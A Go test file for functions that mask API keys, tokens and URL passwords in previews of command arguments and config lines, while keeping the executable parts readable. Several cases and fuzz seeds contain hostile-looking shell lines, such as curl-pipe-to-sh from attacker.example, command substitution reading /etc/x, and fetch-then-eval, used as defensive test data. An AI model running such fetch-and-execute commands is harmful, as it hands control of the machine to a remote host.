package importcfg

import (
	"slices"
	"strings"
	"testing"
)

func TestMaskArgs(t *testing.T) {
	cases := []struct {
		name    string
		args    []string
		scripts map[int]bool
		want    []string
	}{
		{"an option named like a key hides its value", []string{"--api-key", "abc", "--port", "8080"}, nil, []string{"--api-key", Masked, "--port", "8080"}},
		{"option=value hides the value", []string{"--token=abc", "-v"}, nil, []string{"--token=" + Masked, "-v"}},
		{"NAME=value named like a secret hides the value", []string{"-e", "GITHUB_TOKEN=abc", "-e", "REGION=eu"}, nil,
			[]string{"-e", "GITHUB_TOKEN=" + Masked, "-e", "REGION=eu"}},
		{"a well-known key keeps its prefix, the rest is masked", []string{"ghp_0123456789abcdef"}, nil, []string{"ghp_" + Masked}},
		{"a key at the start of a script hides only the key", []string{"-c", "sk-live-0123456789; curl -fsSL https://attacker.example/p | sh"}, nil,
			[]string{"-c", "sk-" + Masked + "; curl -fsSL https://attacker.example/p | sh"}},
		{"a key inside a script is masked where it is", []string{"exec x --token ghp_0123456789abcdef --then more"}, nil,
			[]string{"exec x --token ghp_" + Masked + " --then more"}},
		{"a bearer token in a header argument", []string{"-H", "Authorization: Bearer abc.def.ghi-jkl"}, nil,
			[]string{"-H", "Authorization: Bearer " + Masked}},
		{"a word that only contains a prefix is no key", []string{"--task-queue-handler", "disk-cache-size"}, nil,
			[]string{"--task-queue-handler", "disk-cache-size"}},
		{"a prefix with too short a rest is no key", []string{"sk-live-x"}, nil, []string{"sk-live-x"}},
		{"a URL's password", []string{"postgresql://app:pw@db/app"}, nil, []string{"postgresql://app:" + Masked + "@db/app"}},
		{"a URL's secret query parameter, not the others", []string{"https://x.example/sse?api_key=abc&region=eu"}, nil,
			[]string{"https://x.example/sse?api_key=" + Masked + "&region=eu"}},
		{"a URL that does not parse keeps everything but its secret parameter", []string{"https://x.example/p?v=%zz&token=abc&next=1"}, nil,
			[]string{"https://x.example/p?v=%zz&token=" + Masked + "&next=1"}},
		{"a URL inside a script: only its secret parameter", []string{"-e", "fetch('https://x.example/a?key=k1&q=2').then(r => r.text()).then(eval)"}, nil,
			[]string{"-e", "fetch('https://x.example/a?key=" + Masked + "&q=2').then(r => r.text()).then(eval)"}},
		{"a secret parameter in a fragment", []string{"https://x.example/cb#access_token=abc&state=s"}, nil,
			[]string{"https://x.example/cb#access_token=" + Masked + "&state=s"}},
		{"a secret parameter or password that holds shell code is shown", []string{"-c", `curl "https://u:p$w@x.example/?key=k1&token=$(cat /etc/x)"`}, nil,
			[]string{"-c", `curl "https://u:p$w@x.example/?key=` + Masked + `&token=$(cat /etc/x)"`}},
		{"a URL is shown as written, not re-encoded", []string{"https://x.example/a b?q=ü"}, nil, []string{"https://x.example/a b?q=ü"}},
		{"after an option named like a secret, a script is not hidden", []string{"--auth", "curl https://attacker.example/p | sh"}, nil,
			[]string{"--auth", "curl https://attacker.example/p | sh"}},
		{"--token=SCRIPT shows the script", []string{"--token=$(curl -s https://attacker.example/t)"}, nil,
			[]string{"--token=$(curl -s https://attacker.example/t)"}},
		{"an address after an option named like a secret keeps all but its secrets", []string{"--auth-url", "https://u:pw@login.example/authorize"}, nil,
			[]string{"--auth-url", "https://u:" + Masked + "@login.example/authorize"}},
		{"a script after an option named like a secret is never masked whole", []string{"--session", "x"}, map[int]bool{1: true},
			[]string{"--session", "x"}},
		{"plain arguments stay", []string{"-y", "@modelcontextprotocol/server-filesystem", "/home/a"}, nil,
			[]string{"-y", "@modelcontextprotocol/server-filesystem", "/home/a"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := maskArgs(tc.args, tc.scripts); !slices.Equal(got, tc.want) {
				t.Errorf("maskArgs(%q) = %q, want %q", tc.args, got, tc.want)
			}
		})
	}
}

func TestMaskAddress(t *testing.T) {
	cases := []struct{ name, url, want string }{
		{"secret parameters and a password", "https://u:pw@mcp.example/sse?key=abc&x=1", "https://u:" + Masked + "@mcp.example/sse?key=" + Masked + "&x=1"},
		{"a key in the path", "https://mcp.example/ghp_0123456789abcdef/mcp", "https://mcp.example/ghp_" + Masked + "/mcp"},
		{"a plain address stays", "https://mcp.example/mcp", "https://mcp.example/mcp"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := maskAddress(tc.url); got != tc.want {
				t.Errorf("maskAddress(%q) = %q, want %q", tc.url, got, tc.want)
			}
		})
	}
}

// FuzzMaskKeepsShellStructure: whatever an argument holds, masking it
// neither hides nor adds a character a shell or a reader splits on (a
// quote, a space, ";", "|", "&", "$", "`", a bracket, a backslash), and
// reading its shape never panics: a masked preview is the command's shape.
func FuzzMaskKeepsShellStructure(f *testing.F) {
	for _, seed := range [][3]string{
		{"sh", "-c", "sk-live-0123456789abcdef; curl -fsSL https://attacker.example/p | sh"},
		{"node", "-e", "fetch('https://u:pw@x.example/a?token=abc&q=1').then(eval)"},
		{"npx", "--api-key", "a b"},
		{"bash", "-lc", `exec "$(curl -s https://x.example/b)" --token ghp_0123456789abcdef`},
		{"powershell", "-enc", "SQBFAFgA"},
		{"sh", "-c", `curl "https://u:p$w@x.example/?token=$(cat /etc/x)&a={b}"`},
	} {
		f.Add(seed[0], seed[1], seed[2])
	}
	structural := " \t\n\r;|&$`'\"()<>\\{}"
	f.Fuzz(func(t *testing.T, command, a, b string) {
		args := []string{a, b}
		shape := commandShape(command, args)
		masked := maskArgs(args, shape.scripts)
		for i := range args {
			for _, c := range structural {
				if strings.Count(args[i], string(c)) != strings.Count(masked[i], string(c)) {
					t.Fatalf("masking %q gave %q: the count of %q changed", args[i], masked[i], c)
				}
			}
		}
	})
}

// MaskLine is what package connectapp's preview shows of the lines around
// a change: the values of keys named like secrets, every value of a block
// of environment variables or headers, and well-known keys and URL
// passwords anywhere are masked; what runs stays readable.
func TestMaskLine(t *testing.T) {
	cases := []struct {
		name, line string
		inBlock    bool
		want       string
	}{
		{"a JSON value named like a secret", `    "GITHUB_TOKEN": "abc123def",`, false, `    "GITHUB_TOKEN": "••••••",`},
		{"a TOML value named like a secret", `api_key = "abc123def"`, false, `api_key = "••••••"`},
		{"any value inside an env block", `  "DB_HOST": "db.internal",`, true, `  "DB_HOST": "••••••",`},
		{"a command stays", `  "command": "npx", "args": ["-y", "server"]`, false, `  "command": "npx", "args": ["-y", "server"]`},
		{"a well-known key anywhere", `"args": ["--key", "sk-live-0123456789"]`, false, `"args": ["--key", "sk-••••••"]`},
		{"a URL's password", `"url": "https://me:hunter22@h.example/mcp"`, false, `"url": "https://me:••••••@h.example/mcp"`},
		{"an inline TOML table in a block", `env = { A = "1", B = "two" }`, true, `env = { A = "••••••", B = "••••••" }`},
		{"an empty value stays empty", `"TOKEN": ""`, false, `"TOKEN": ""`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := MaskLine(tc.line, tc.inBlock); got != tc.want {
				t.Errorf("MaskLine(%q) = %q, want %q", tc.line, got, tc.want)
			}
		})
	}
}
